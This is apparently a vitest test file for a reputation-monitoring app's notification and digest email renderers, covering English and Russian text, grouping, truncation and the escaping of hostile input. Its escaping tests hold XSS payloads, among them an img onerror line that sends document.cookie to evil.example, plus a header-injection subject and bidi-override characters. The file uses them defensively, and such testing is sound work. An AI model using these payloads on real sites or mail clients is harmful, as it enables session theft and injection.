import { describe, expect, it } from "vitest";
import { NOTIFICATION_KINDS, ZNotificationEvent } from "./notification-event.ts";
import { allSampleEvents, hostileEvent, sampleEvent } from "./notification-fixtures.ts";
import { renderDigestEmail } from "./render-digest-email.ts";
import { renderEventEmail } from "./render-event-email.ts";

const unsubscribe = { url: "https://repute.example.com/unsubscribe?token=abc&kind=all" };
const en = { locale: "en" } as const;
const ru = { locale: "ru" } as const;

/**
 * Nothing a mail client would fetch or run: every tag (untrusted text is escaped, so each "<"
 * starts one of ours) is from a short list, without src, event handlers or script URLs.
 */
const TAGS = new Set(["!doctype", "html", "head", "meta", "title", "body", "table", "tr", "td", "h1", "h2", "h3", "p", "blockquote", "strong", "a", "br", "ul", "li"]);
function expectInert(html: string): void {
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    const name = /^<\/?([!a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase() ?? tag;
    expect(TAGS.has(name), tag).toBe(true);
    expect(tag, tag).not.toMatch(/\s(src|srcset|background|on[a-z]+)\s*=|url\(|javascript:|@import/i);
  }
}

describe("renderEventEmail", () => {
  it("the fixtures are valid events of every kind", () => {
    const events = allSampleEvents();
    expect(events.map((e) => e.kind)).toEqual([...NOTIFICATION_KINDS]);
    for (const e of events) expect(ZNotificationEvent.safeParse(e).success, e.kind).toBe(true);
    expect(ZNotificationEvent.safeParse(hostileEvent()).success).toBe(true);
  });

  it.each(NOTIFICATION_KINDS)("%s: subject, both parts, case link and unsubscribe link in English and Russian", (kind) => {
    const event = sampleEvent(kind);
    const mailEn = renderEventEmail(event, en, unsubscribe);
    const mailRu = renderEventEmail(event, ru, unsubscribe);
    for (const mail of [mailEn, mailRu]) {
      expect(mail.subject).toContain("Northwind Bank");
      expect(mail.html).toContain('href="https://repute.example.com/cases/c0ffee00-0000-4000-8000-000000000001"');
      expect(mail.text).toContain("https://repute.example.com/cases/c0ffee00-0000-4000-8000-000000000001");
      expect(mail.html).toContain('href="https://repute.example.com/unsubscribe?token=abc&amp;kind=all"');
      expect(mail.text).toContain("https://repute.example.com/unsubscribe?token=abc&kind=all");
      expect(mail.unsubscribeUrl).toBe("https://repute.example.com/unsubscribe?token=abc&kind=all");
      expect(mail.html).toContain("Waited 40 minutes on the hotline");
      expect(mail.text).toContain("> Waited 40 minutes on the hotline");
      expectInert(mail.html);
    }
    expect(mailEn.html).toContain('<html lang="en">');
    expect(mailRu.html).toContain('<html lang="ru">');
    expect(mailEn.subject).not.toMatch(/[а-яё]/i);
    expect(mailRu.subject).toMatch(/[а-яё]/i);
    expect(mailRu.text).toContain("Отписаться: https://repute.example.com/unsubscribe");
    expect(mailEn.text).toContain("Unsubscribe: https://repute.example.com/unsubscribe");
  });

  it("says what each kind needs: the response, the reason, the due time in the reader's zone, the published link", () => {
    const awaiting = renderEventEmail(sampleEvent("awaiting_approval"), en, unsubscribe);
    expect(awaiting.subject).toBe("Northwind Bank: a response awaits your approval");
    expect(awaiting.text).toContain("> We are sorry. Please write to us at help@northwind.example.");
    expect(awaiting.text).toContain("A response was prepared by Anna Specialist.");

    const returned = renderEventEmail(sampleEvent("returned"), ru, unsubscribe);
    expect(returned.subject).toBe("Northwind Bank: ответ возвращён на доработку");
    expect(returned.text).toContain("Причина:\n> Too short; mention the refund.");
    expect(returned.text.indexOf("Причина")).toBeLessThan(returned.text.indexOf("Ответ:"));

    const overdue = renderEventEmail(sampleEvent("overdue"), en, unsubscribe);
    expect(overdue.subject).toMatch(/^Northwind Bank: case overdue \(response was due 20 Nov 2026, 15:00 UTC\)$/);
    const overdueMsk = renderEventEmail(sampleEvent("overdue"), { locale: "ru", timeZone: "Europe/Moscow" }, unsubscribe);
    expect(overdueMsk.text).toMatch(/Срок: 20 нояб\. 2026 г\., 18:00/);
    const unknownZone = renderEventEmail(sampleEvent("overdue"), { locale: "en", timeZone: "Mars/Olympus" }, unsubscribe);
    expect(unknownZone.text).toContain("15:00 UTC");

    const published = renderEventEmail(sampleEvent("published"), en, unsubscribe);
    expect(published.html).toContain('href="https://www.banki.ru/services/responses/bank/response/123456/#answer"');
    expect(published.subject).toBe("Northwind Bank: response published on banki.ru");

    const fresh = renderEventEmail(sampleEvent("new_negative"), en, unsubscribe);
    expect(fresh.text).not.toContain("Response:");
  });

  it("escapes every untrusted field and keeps the subject on one line", () => {
    for (const recipient of [en, ru]) {
      const mail = renderEventEmail(hostileEvent(), recipient, unsubscribe);
      expectInert(mail.html);
      expect(mail.html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;");
      expect(mail.html).toContain("&lt;img src=x onerror=&quot;fetch(&#39;https://evil.example/&#39;+document.cookie)&quot;&gt;");
      expect(mail.html).toContain("&lt;/blockquote&gt;&lt;a href=&quot;javascript:alert(4)&quot;&gt;click&lt;/a&gt;");
      expect(mail.html).toContain("&quot;&gt;&lt;svg onload=alert(3)&gt;");
      // The only anchors are ours, and the mention's link is escaped inside its attribute.
      const hrefs = [...mail.html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
      expect(hrefs).toEqual([
        "https://example.com/?q=%3Cscript%3E",
        "https://repute.example.com/cases/c0ffee00-0000-4000-8000-000000000001",
        "https://repute.example.com/unsubscribe?token=abc&amp;kind=all",
      ]);
      expect(mail.subject).not.toMatch(/[\r\n]/);
      expect(mail.subject).toContain("Evil <b>Brand</b> Bcc: victim@example.com");
      // The plain-text part shows the text as written, quoted so it cannot pass for ours.
      expect(mail.text).toContain(`> Ужасный сервис <script>alert("x")</script>`);
    }
  });

  it("drops control and bidi-override characters and links only to http(s)", () => {
    const event = sampleEvent("new_negative", {
      mention: { excerpt: "abc\u202Egnp.exe\u0007 end", author: "a\u0000b", site: "site", url: null },
    });
    const mail = renderEventEmail(event, en, unsubscribe);
    expect(mail.text).toContain("> abcgnp.exe end");
    expect(mail.text).toContain("Author: ab");
    expect(mail.text).not.toContain("Original:");
    expect(() => renderEventEmail(event, en, { url: "javascript:alert(1)" })).toThrow(/unsubscribe/);
  });

  it("shortens a huge mention and marks the cut", () => {
    const event = sampleEvent("new_negative", { mention: { ...sampleEvent("new_negative").mention, excerpt: "слово ".repeat(5000) } });
    const mail = renderEventEmail(event, ru, unsubscribe);
    expect(mail.html.length).toBeLessThan(12_000);
    expect(mail.text).toMatch(/слово…/);
  });

  it("asks for a one-click unsubscribe header only when told the URL supports it", () => {
    expect(renderEventEmail(sampleEvent("approved"), en, unsubscribe).oneClickUnsubscribe).toBe(false);
    expect(renderEventEmail(sampleEvent("approved"), en, { ...unsubscribe, oneClick: true }).oneClickUnsubscribe).toBe(true);
  });
});

describe("renderDigestEmail", () => {
  const contoso = (kind: Parameters<typeof sampleEvent>[0], occurredAt: string) => sampleEvent(kind, { brandName: "Contoso", occurredAt });

  it("groups by brand, then by kind with the urgent first, newest first, and counts in the subject", () => {
    const events = [
      ...allSampleEvents(),
      contoso("new_negative", "2026-11-20T08:00:00Z"),
      contoso("new_negative", "2026-11-20T10:00:00Z"),
      contoso("overdue", "2026-11-20T11:00:00Z"),
    ];
    const mail = renderDigestEmail({ events, recipient: en, unsubscribe, date: new Date("2026-11-20T20:00:00Z"), appUrl: "https://repute.example.com/" });
    expect(mail).not.toBeNull();
    if (!mail) return;
    expect(mail.subject).toBe("Repute digest for 20 November 2026: 9 updates, 2 overdue");
    const t = mail.text;
    expect(t).toContain("9 updates for 2 brands.");
    expect(t.indexOf("CONTOSO")).toBeLessThan(t.indexOf("NORTHWIND BANK"));
    const northwind = t.slice(t.indexOf("NORTHWIND BANK"));
    const order = ["Overdue (1)", "Awaiting approval (1)", "Returned for changes (1)", "New negative mentions (1)", "Approved (1)", "Published (1)"];
    const positions = order.map((h) => northwind.indexOf(h));
    expect(positions.every((p) => p >= 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    const contosoPart = t.slice(t.indexOf("CONTOSO"), t.indexOf("NORTHWIND BANK"));
    expect(contosoPart).toContain("New negative mentions (2)");
    expect(contosoPart.indexOf("20 Nov 2026, 10:00")).toBeLessThan(contosoPart.indexOf("20 Nov 2026, 08:00"));
    expect(t).toContain("Reason: Too short; mention the refund.");
    expect(t).toContain("Open Repute: https://repute.example.com/");
    expect(t).toContain("Unsubscribe: https://repute.example.com/unsubscribe?token=abc&kind=all");
    expect(mail.html).toContain("<h2");
    expectInert(mail.html);
  });

  it("speaks Russian with Russian plurals", () => {
    const one = renderDigestEmail({ events: [sampleEvent("approved")], recipient: ru, unsubscribe, date: new Date("2026-11-20T12:00:00Z") });
    expect(one?.subject).toBe("Repute, сводка за 20 ноября 2026 г.: 1 событие");
    const events = Array.from({ length: 5 }, () => sampleEvent("overdue"));
    const five = renderDigestEmail({ events, recipient: ru, unsubscribe, date: new Date("2026-11-20T12:00:00Z") });
    expect(five?.subject).toBe("Repute, сводка за 20 ноября 2026 г.: 5 событий, просрочено: 5");
    expect(five?.text).toContain("5 событий по 1 бренду.");
    expect(five?.html).toContain('<html lang="ru">');
  });

  it("lists at most maxPerGroup events of a kind and says how many more there are", () => {
    const events = Array.from({ length: 25 }, (_, i) =>
      sampleEvent("new_negative", { occurredAt: new Date(Date.UTC(2026, 10, 20, 0, i)).toISOString() }),
    );
    const mail = renderDigestEmail({ events, recipient: en, unsubscribe, maxPerGroup: 10 });
    expect(mail?.text).toContain("New negative mentions (25)");
    expect(mail?.text).toContain("…and 15 more");
    expect(mail?.html).toContain("…and 15 more");
    expect(mail?.text.match(/Open the case:/g)).toHaveLength(10);
  });

  it("escapes hostile events and returns null when there is nothing to send", () => {
    const mail = renderDigestEmail({ events: [hostileEvent()], recipient: en, unsubscribe });
    expectInert(mail?.html ?? "");
    expect(mail?.html).toContain("&lt;script&gt;");
    expect(renderDigestEmail({ events: [], recipient: en, unsubscribe })).toBeNull();
  });
});
